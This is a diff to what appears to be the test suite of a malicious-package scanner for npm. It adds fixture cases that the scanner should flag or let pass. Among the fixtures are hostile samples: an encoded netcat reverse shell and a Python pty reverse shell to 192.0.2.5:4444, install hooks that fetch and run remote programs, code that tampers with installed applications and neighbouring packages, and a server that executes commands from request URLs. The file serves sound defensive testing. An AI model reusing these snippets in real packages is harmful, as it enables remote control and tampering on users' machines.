@@ -252,6 +252,64 @@ describeVerdicts("EXE-02", {
         "bin/run.js": `require("child_process").spawnSync(__dirname + "/sample", process.argv.slice(2), { stdio: "inherit" });`,
       },
     },
+    "a build that a generator of releases fetches by the module that its address asks for": {
+      manifest: {
+        name: "sample",
+        version: "1.0.0",
+        bin: { sample: "run.js" },
+        scripts: { postinstall: "node install.js" },
+        archives: {
+          "linux-x64": { url: "https://github.com/sample/sample/releases/download/v1/sample.tgz" },
+        },
+      },
+      files: {
+        "install.js": `require("./lib.js").install();`,
+        "run.js": `require("./lib.js").run("sample");`,
+        "lib.js": `
+          const fs = require("fs"), http = require("http"), https = require("https"), path = require("path");
+          const { archives } = JSON.parse(fs.readFileSync(__dirname + "/package.json", "utf8"));
+          const download = (url, to) => new Promise((done) => {
+            const mod = new URL(url).protocol === "https:" ? https : http;
+            mod.get(url, (r) => {
+              if (r.statusCode === 302) return download(r.headers.location, to).then(done);
+              r.pipe(fs.createWriteStream(to)).on("finish", done);
+            });
+          });
+          exports.install = async () => {
+            const { url } = archives[process.platform + "-" + process.arch];
+            const to = path.join(fs.mkdtempSync("archive-"), "sample");
+            await download(url, to);
+            fs.copyFileSync(to, path.join(__dirname, "bin", "sample"));
+          };
+          exports.run = async (bin) => {
+            await exports.install();
+            require("child_process").spawnSync(path.join(__dirname, "bin", bin), process.argv.slice(2));
+          };`,
+      },
+    },
+    "a release that a list names, from a mirror that a setting of its own names": {
+      manifest: {
+        name: "sampledriver",
+        bin: { sampledriver: "bin/run.js" },
+        scripts: { install: "node install.js" },
+      },
+      files: {
+        "install.js": `
+          const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process");
+          const setting = (name) => process.env[name.toUpperCase()] ?? process.env["npm_config_" + name];
+          const list = (setting("sampledriver_cdnurl") || "https://files.example.test").replace(/\\/+$/, "");
+          (async () => {
+            const { version } = await (await fetch(list + "/" + setting("sampledriver_channel") + ".json")).json();
+            const folder = path.join(setting("tmp") || os.tmpdir(), version, "sampledriver");
+            const file = path.resolve(folder, process.platform === "win32" ? "sampledriver.exe" : "sampledriver");
+            const { url } = await (await fetch(list + "/" + version + ".json")).json();
+            const data = await fetch(url);
+            fs.writeFileSync(file, Buffer.from(await data.arrayBuffer()));
+            cp.spawn(file, ["--version"]);
+          })();`,
+        "bin/run.js": `require("child_process").spawnSync(__dirname + "/sampledriver", process.argv.slice(2));`,
+      },
+    },
     "a download for the caller": `
       const fs = require("fs");
       exports.save = async (u, f) => fs.writeFileSync(f, Buffer.from(await (await fetch(u)).arrayBuffer()));`,
@@ -440,6 +498,11 @@ describeVerdicts("EXE-07", {
     "a command that is encoded": atInstall(
       `require("child_process").execSync(Buffer.from("${base64("nc 192.0.2.5 4444 -e /bin/sh")}", "base64").toString());`,
     ),
+    "a terminal on a connection": `
+      require("child_process").spawn("python3", ["-c", 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)]\\npty.spawn("/bin/sh")']);`,
+    "a terminal by itself": atInstall(
+      `require("child_process").execSync("python -c 'import pty; pty.spawn(\\"/bin/bash\\")' <&3 >&3");`,
+    ),
     "under other names": `
       const n = require("node:net"), { spawn: x } = require("node:child_process");
       const c = n.connect({ port: 443, host: "files.example.test" });
@@ -452,6 +515,13 @@ describeVerdicts("EXE-07", {
     "a start of which everything comes in": asCommand(`
       const cp = require("child_process");
       fetch(process.env.PLAN_URL).then((r) => r.json()).then((plan) => cp.spawnSync("cmd.exe", plan.args, plan.options));`),
+    "a test of a terminal library": {
+      files: {
+        "lib/terminal.test.js": `
+          const script = "const pty = require('./index'); const p = pty.spawn('node', ['-e', '1'], { env: process.env }); p.on('data', (d) => console.log(d));";
+          require("child_process").spawn("node", ["-e", script]);`,
+      },
+    },
     "a line reader": `exports.ask = () => require("readline").createInterface({ input: process.stdin });`,
     "a proxy": `exports.proxy = (a, port, host) => { const b = require("net").connect(port, host); a.pipe(b); b.pipe(a); };`,
   },
@@ -467,6 +537,12 @@ describeVerdicts("EXE-08", {
        const s = net.connect(4444, "192.0.2.5");
        s.on("data", (d) => s.write(execSync(d.toString())));`,
     ),
+    "an address that is no word by itself": `
+      const { exec } = require("child_process");
+      setInterval(async () => { const r = await fetch("${url}"); exec("open " + (await r.json()).page); }, 5000);`,
+    "a program that is fetched and asked for more than its version": atInstall(`
+      const cp = require("child_process");
+      fetch("${url}").then((r) => r.text()).then((program) => cp.spawn(program, ["--version", "--run"]));`),
     "a command in an address that is asked for": `
       require("http").createServer((req, res) => {
         const u = new URL(req.url, "http://x");
@@ -478,6 +554,15 @@ describeVerdicts("EXE-08", {
       `require("child_process").spawnSync(process.argv[2], process.argv.slice(3), { stdio: "inherit" });`,
     ),
     "a poll that is told": `exports.watch = (to, done) => setInterval(async () => done(await (await fetch(to)).json()), 1000);`,
+    "a sign-in that shows the page that its service names": `
+      const { exec } = require("child_process");
+      (async () => {
+        const device = await (await fetch("${url}", { method: "POST" })).json();
+        if (process.platform === "darwin") exec(\`open \${JSON.stringify(device.page)}\`);
+        else if (process.platform === "win32") exec(\`start "" \${JSON.stringify(device.page)}\`);
+        else exec(\`xdg-open \${JSON.stringify(device.page)}\`);
+        setInterval(() => fetch("${url}", { method: "POST", body: device.code }), 5000);
+      })();`,
     "a fixed command": `setInterval(() => require("child_process").execFile("git", ["fetch"]), 60000).unref();`,
   },
 });
@@ -598,12 +683,34 @@ describeVerdicts("EXE-11", {
     },
     "beside its own folder": `
       require("fs").writeFileSync(process.cwd() + "/node_modules/sample/../express/index.js", "x()");`,
+    "an application that is installed": `
+      const fs = require("fs");
+      for (const app of fs.readdirSync("/Applications"))
+        fs.appendFileSync("/Applications/" + app + "/Contents/Resources/main.js", "x()");`,
+    "a folder above its own that is no folder of its own": atInstall(`
+      const fs = require("fs"), path = require("path");
+      const up = path.basename(__dirname) === "script" ? path.join(__dirname, "..", "express") : path.join(__dirname, "express");
+      fs.writeFileSync(path.join(up, "index.js"), "x()");`),
     "a neighbour, from the folder that a hook runs in": atInstall(`
       const fs = require("fs"), path = require("path");
       fs.appendFileSync(path.resolve(process.cwd(), "../other/index.js"), ";require('../sample/x')");`),
   },
   passes: {
     "a cache": `require("fs").writeFileSync(process.cwd() + "/node_modules/.cache/sample/a.json", "{}");`,
+    "an application that is packed where its caller says": `
+      const fs = require("fs"), path = require("path");
+      module.exports = function pack(output) {
+        fs.writeFileSync(path.join(output, "Contents/Resources/application"), "x");
+      };
+      if (process.argv[2]) module.exports(process.argv[2]);`,
+    "its own program, for a script that lies deeper in its repository": atInstall(`
+      const fs = require("fs"), path = require("path");
+      const bin = path.basename(__dirname) === "script" ? path.join(__dirname, "..", "bin") : path.join(__dirname, "bin");
+      fs.linkSync(process.env.SAMPLE_PROGRAM, path.join(bin, ".sample"));`),
+    "a file beside one that somebody names": `
+      const fs = require("fs");
+      let at = 2;
+      while (at < process.argv.length) { fs.renameSync("tmp", process.argv[at]); at += 1; }`,
     "its own folder among the project's packages": `
       require("fs").writeFileSync("./node_modules/sample/.cache/results.json", "[]");`,
     "a project that is put together for a test": `
@@ -693,11 +800,33 @@ describeVerdicts("EXE-14", {
           require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
       },
     },
+    "requests that are carried out, by another name than the package's": {
+      manifest: { exports: { ".": "./index.js", "./register": "./daemon.js" } },
+      files: {
+        "index.js": "module.exports = (a) => a;",
+        "daemon.js": `
+          const { execSync } = require("child_process");
+          require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
+      },
+    },
     "requests that are carried out": `
       const { execSync } = require("child_process");
       require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
   },
   passes: {
+    "a program that is started by a name of its own": {
+      manifest: { exports: { ".": "./index.js", "./hub/daemon-entry": "./daemon.js" } },
+      files: {
+        "index.js": "module.exports = (a) => a;",
+        "daemon.js": `
+          const { execSync } = require("child_process");
+          require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
+      },
+    },
+    "a folder of the caller's, served by what the caller mounts": `
+      const fs = require("fs"), path = require("path");
+      exports.preview = (settings) => (req, res) =>
+        fs.createReadStream(path.join(settings.folder, decodeURI(req.url))).pipe(res);`,
     "a server of the caller": `exports.serve = (port) => require("http").createServer((q, r) => r.end("ok")).listen(port);`,
     "a command": asCommand(`require("http").createServer((q, r) => r.end("ok")).listen(3000);`),
     "a page for those who work on the package": {
@@ -797,6 +926,9 @@ describeVerdicts("EXE-15", {
       WebAssembly.instantiate(bytes, { host: { run: require("child_process").execSync } });`,
   },
   warns: {
+    "a binding that makes a function, on one line": bindings(
+      `module.exports.${newFunction}=function(A,g){const B=new Function(text(A,g));return heap.push(B)},module.exports.__wbg_call_0000000000000001=function(a,b){return heap[a].call(heap[b])};`,
+    ),
     "a binding that makes a function": bindings(`
     module.exports.${newFunction} = function (at, length) {
       const ret = new Function(text(at, length));
